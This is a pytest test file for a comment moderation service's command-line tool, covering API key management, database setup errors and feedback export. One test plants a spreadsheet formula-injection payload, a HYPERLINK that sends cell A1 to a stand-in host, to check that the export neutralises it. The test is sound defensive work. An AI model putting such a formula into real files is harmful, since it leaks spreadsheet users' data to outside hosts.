def test_keys_revoke_by_name_and_id(runner, db_env):
    unchecked_keys(db_env, "cms", "cms", "other")
    revoked = runner.invoke(cli, ["keys", "revoke", "cms"], env=db_env)
    assert revoked.exit_code == 0, revoked.output
    assert "key 1 (cms), key 2 (cms)" in revoked.stderr
    assert runner.invoke(cli, ["keys", "revoke", "3"], env=db_env).exit_code == 0
    rows = runner.invoke(cli, ["keys", "list"], env=db_env).stdout.splitlines()[1:]
    assert all(row.split("\t")[-1] != "-" for row in rows)
    assert_one_line_error(runner.invoke(cli, ["keys", "revoke", "cms"], env=db_env), r"no active key with id or name 'cms'")


def test_keys_that_work_on_the_api(runner, db_env, tiny_bundle_path, monkeypatch):
    from service.app import create_app

    key = runner.invoke(cli, ["keys", "create", "api"], env=db_env).stdout.strip()
    monkeypatch.setenv("MODERATION_DB_URL", db_env["MODERATION_DB_URL"])
    # KEY_CACHE_SECONDS=0: check the database on every request (test_auth covers the cache's delay).
    client = create_app({"TESTING": True, "MODEL": str(tiny_bundle_path), "KEY_CACHE_SECONDS": 0}).test_client()
    assert client.get("/v1/model", headers={"Authorization": f"Bearer {key}"}).status_code == 200
    runner.invoke(cli, ["keys", "revoke", "api"], env=db_env)
    assert client.get("/v1/model", headers={"Authorization": f"Bearer {key}"}).status_code == 403


def test_keys_ensure_local_prints_a_key_only_when_it_makes_one(runner, db_env):
    first = runner.invoke(cli, ["keys", "ensure-local"], env=db_env)
    assert first.exit_code == 0, first.output
    assert first.stdout.strip().startswith("mod_")
    second = runner.invoke(cli, ["keys", "ensure-local"], env=db_env)
    assert second.exit_code == 0 and second.stdout == ""
    assert "already exists" in second.stderr


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("", r"NAME must be 1 to 100 characters"),
        ("   ", r"NAME must be 1 to 100 characters"),
        ("n" * 101, r"NAME must be 1 to 100 characters"),
        ("4", r"NAME must not be all digits: '4' would read as a key id"),
        ("news\tsite", r"NAME must not contain control or invisible characters such as tabs or newlines \(it has U\+0009\)"),
        ("news\nsite", r"NAME must not contain control or invisible characters .*U\+000A"),
        (" cms", r"NAME must not start or end with a space: ' cms'"),
        ("cms ", r"NAME must not start or end with a space"),
        ("id:4", r"NAME must not start with 'id:' or 'name:'"),
    ],
)
def test_keys_create_refuses_bad_names(runner, db_env, tmp_path, name, message):
    assert_one_line_error(runner.invoke(cli, ["keys", "create", name], env=db_env), message)
    assert not (tmp_path / "cli.db").exists()  # refused before the database is opened


def test_keys_create_refuses_a_name_an_active_key_has(runner, db_env):
    assert runner.invoke(cli, ["keys", "create", "cms"], env=db_env).exit_code == 0
    again = runner.invoke(cli, ["keys", "create", "cms"], env=db_env)
    assert_one_line_error(again, r"NAME 'cms' is already the name of active key 1: choose another name, or revoke that key first")
    assert again.stdout == ""
    assert runner.invoke(cli, ["keys", "revoke", "cms"], env=db_env).exit_code == 0
    assert runner.invoke(cli, ["keys", "create", "cms"], env=db_env).exit_code == 0  # a revoked key's name is free
    assert listed_keys(runner, db_env) == [("1", "cms", True), ("2", "cms", False)]


def test_an_id_that_is_another_keys_name_is_refused_until_told_which(runner, db_env, tmp_path):
    from sqlalchemy.orm import Session

    from service.store import Feedback, make_engine

    unchecked_keys(db_env, "a", "b", "c", "cms", "e", "f", "4")  # key 7 is named "4", as was allowed before
    engine = make_engine(db_env["MODERATION_DB_URL"])
    with Session(engine) as session:
        session.add_all([Feedback(comment_id=f"from-{key_id}", decision="approve", source="api", api_key_id=key_id) for key_id in (4, 7)])
        session.commit()
    engine.dispose()
    ambiguous = r"'4' is the id of key 4 \(cms\) and the name of key 7 \(4\); say which with id:4 or name:4"

    assert_one_line_error(runner.invoke(cli, ["keys", "revoke", "4"], env=db_env), ambiguous)
    assert_one_line_error(runner.invoke(cli, ["feedback", "export", "-o", str(tmp_path / "x.csv"), "--key", "4"], env=db_env), ambiguous)
    assert not (tmp_path / "x.csv").exists()
    for selector, key_id in (("id:4", 4), ("name:4", 7)):
        out = tmp_path / f"{key_id}.csv"
        exported = runner.invoke(cli, ["feedback", "export", "-o", str(out), "--key", selector], env=db_env)
        assert exported.exit_code == 0, exported.output
        assert pd.read_csv(out)["comment_id"].tolist() == [f"from-{key_id}"]
    assert [revoked for _id, _name, revoked in listed_keys(runner, db_env)] == [False] * 7

    revoked = runner.invoke(cli, ["keys", "revoke", "name:4"], env=db_env)
    assert revoked.exit_code == 0, revoked.output
    assert "Revoked key 7 (4)" in revoked.stderr
    assert runner.invoke(cli, ["keys", "revoke", "id:4"], env=db_env).exit_code == 0
    assert [key for key in listed_keys(runner, db_env) if key[2]] == [("4", "cms", True), ("7", "4", True)]
    assert "ID_OR_NAME" in runner.invoke(cli, ["keys", "revoke", "--help"]).stdout


def test_keys_list_on_an_empty_database(runner, db_env):
    assert runner.invoke(cli, ["db", "upgrade"], env=db_env).exit_code == 0
    result = runner.invoke(cli, ["keys", "list"], env=db_env)
    assert result.exit_code == 0 and result.stdout == ""
    assert "No keys" in result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["keys", "list"],
        ["keys", "revoke", "cms"],
        ["feedback", "export", "-o", "out.csv"],
        ["users", "list"],
        ["users", "delete", "ann"],
        ["users", "set-password", "ann", "--password", "a long enough password"],
    ],
)
def test_commands_that_use_a_database_refuse_a_missing_one(runner, tmp_path, args):
    missing = tmp_path / "absent" / "moderation.db"
    result = runner.invoke(cli, args, env={"MODERATION_DB_URL": f"sqlite:///{missing}"})
    assert_one_line_error(result, rf"no database at {re.escape(str(missing))}: create it with `moderate db upgrade` \(or `make run`\)")
    assert not (tmp_path / "absent").exists()  # no file, no folder


def test_commands_that_start_a_database_still_make_it(runner, tmp_path):
    """``make run`` on a fresh checkout: ``moderate keys ensure-local`` makes the database, then it is used."""
    env = {"MODERATION_DB_URL": f"sqlite:///{tmp_path / 'new' / 'moderation.db'}"}
    made = runner.invoke(cli, ["keys", "ensure-local"], env=env)
    assert made.exit_code == 0, made.output
    assert (tmp_path / "new" / "moderation.db").is_file()
    assert listed_keys(runner, env) == [("1", "local", False)]
    other = {"MODERATION_DB_URL": f"sqlite:///{tmp_path / 'other.db'}"}
    assert runner.invoke(cli, ["keys", "create", "cms"], env=other).exit_code == 0
    assert listed_keys(runner, other) == [("1", "cms", False)]


def test_without_auto_upgrade_no_command_makes_a_database(runner, tmp_path):
    env = {"MODERATION_DB_URL": f"sqlite:///{tmp_path / 'moderation.db'}", "MODERATION_DB_AUTO_UPGRADE": "false"}
    assert_one_line_error(runner.invoke(cli, ["keys", "create", "cms"], env=env), r"no database at .*moderation\.db: create it with `moderate db upgrade`")
    assert not (tmp_path / "moderation.db").exists()


def test_db_upgrade_reports_the_revision(runner, db_env):
    from service.migrations import head_revision

    for _ in range(2):
        result = runner.invoke(cli, ["db", "upgrade"], env=db_env)
        assert result.exit_code == 0, result.output
        assert result.stdout.strip().endswith(f"is at schema revision {head_revision()}")


def test_db_upgrade_unreachable_database_is_exit_2(runner):
    result = runner.invoke(cli, ["db", "upgrade"], env={"MODERATION_DB_URL": "postgresql://u:secret@127.0.0.1:1/none"})
    assert_one_line_error(result, r"cannot migrate database postgresql\+psycopg://u:\*\*\*@127.0.0.1:1/none")
    assert "secret" not in result.output


@pytest.mark.parametrize("command", [["keys", "list"], ["feedback", "export", "-o", "out.csv"], ["users", "list"]])
def test_commands_on_an_existing_database_make_no_tables_in_an_empty_one(runner, tmp_path, command, monkeypatch):
    # An empty database a mistyped MODERATION_DB_URL names (a new PostgreSQL database, an empty SQLite file): `keys
    # list` made every table of the service in it and answered "No keys".
    import sqlite3

    empty = tmp_path / "other.db"
    sqlite3.connect(empty).close()  # a SQLite file with no tables
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(cli, command, env={"MODERATION_DB_URL": f"sqlite:///{empty}"})
    assert_one_line_error(result, rf"database sqlite:///{re.escape(str(empty))} holds no moderation tables: create it with "
                                  r"`moderate db upgrade`")
    with sqlite3.connect(empty) as connection:
        assert connection.execute("SELECT name FROM sqlite_master").fetchall() == []


def test_feedback_export_writes_the_table(runner, db_env, tmp_path, tiny_bundle_path, monkeypatch):
    from service.app import create_app

    monkeypatch.setenv("MODERATION_DB_URL", db_env["MODERATION_DB_URL"])
    client = create_app({"TESTING": True, "MODEL": str(tiny_bundle_path), "AUTH_REQUIRED": False}).test_client()
    for body in ({"comment_id": "c1", "text": HOSTILE, "decision": "reject", "labels": {"insult": 1}}, {"comment_id": "c2", "decision": "approve"}):
        assert client.post("/v1/feedback", json=body).status_code == 201
    result = runner.invoke(cli, ["feedback", "export", "-o", str(tmp_path / "feedback.parquet")], env=db_env)
    assert result.exit_code == 0, result.output
    assert "Wrote 2 feedback rows" in result.stderr
    table = pq.read_table(tmp_path / "feedback.parquet").to_pylist()
    assert [(row["comment_id"], row["text"], row["decision"], row["insult"]) for row in table] == [("c1", HOSTILE, "reject", 1.0), ("c2", None, "approve", None)]


def test_feedback_export_spreadsheet_safe_marks_a_formula_comment(runner, db_env, tmp_path, tiny_bundle_path, monkeypatch):
    # A commenter's text decided on the moderation page lands in the export: opened in a spreadsheet (to sort it, as
    # README suggests) it ran as a formula, and export had no --spreadsheet-safe as `moderate score` has.
    from service.app import create_app

    monkeypatch.setenv("MODERATION_DB_URL", db_env["MODERATION_DB_URL"])
    client = create_app({"TESTING": True, "MODEL": str(tiny_bundle_path), "AUTH_REQUIRED": False}).test_client()
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    assert client.post("/v1/feedback", json={"comment_id": "f1", "text": formula, "decision": "reject"}).status_code == 201
    exact, safe = tmp_path / "exact.csv", tmp_path / "safe.csv"
    assert runner.invoke(cli, ["feedback", "export", "-o", str(exact)], env=db_env).exit_code == 0
    result = runner.invoke(cli, ["feedback", "export", "-o", str(safe), "--spreadsheet-safe"], env=db_env)
    assert result.exit_code == 0, result.output
    assert pd.read_csv(exact, keep_default_na=False)["text"].tolist() == [formula]  # for training: exactly as sent
    assert safe.read_text(encoding="utf-8").startswith("\ufeff")
    assert pd.read_csv(safe, keep_default_na=False, encoding="utf-8-sig")["text"].tolist() == ["'" + formula]
    parquet = runner.invoke(cli, ["feedback", "export", "-o", str(tmp_path / "x.parquet"), "--spreadsheet-safe"], env=db_env)
    assert_one_line_error(parquet, r"spreadsheet-safe cells are for a \.csv output")


@pytest.mark.parametrize("overwrite", [[], ["--overwrite"]])
def test_feedback_export_to_a_folder_is_exit_2_and_leaves_nothing(runner, db_env, tmp_path, overwrite):
    """-o naming a folder: a traceback from os.replace (with --overwrite) after the whole table was written beside it."""
    assert runner.invoke(cli, ["db", "upgrade"], env=db_env).exit_code == 0
    out = tmp_path / "exports" / "feedback.csv"
    out.mkdir(parents=True)
    result = runner.invoke(cli, ["feedback", "export", "-o", str(out), *overwrite], env=db_env)
    assert_one_line_error(result, rf"{re.escape(str(out))} is a folder: give a file name")
    assert out.is_dir() and list(out.parent.iterdir()) == [out]  # no .partial file left beside it


def test_feedback_export_bad_extension_is_exit_2(runner, db_env, tmp_path):
    assert runner.invoke(cli, ["db", "upgrade"], env=db_env).exit_code == 0
    result = runner.invoke(cli, ["feedback", "export", "-o", str(tmp_path / "out.xlsx")], env=db_env)
    assert_one_line_error(result, r"extension '\.xlsx' is not supported")
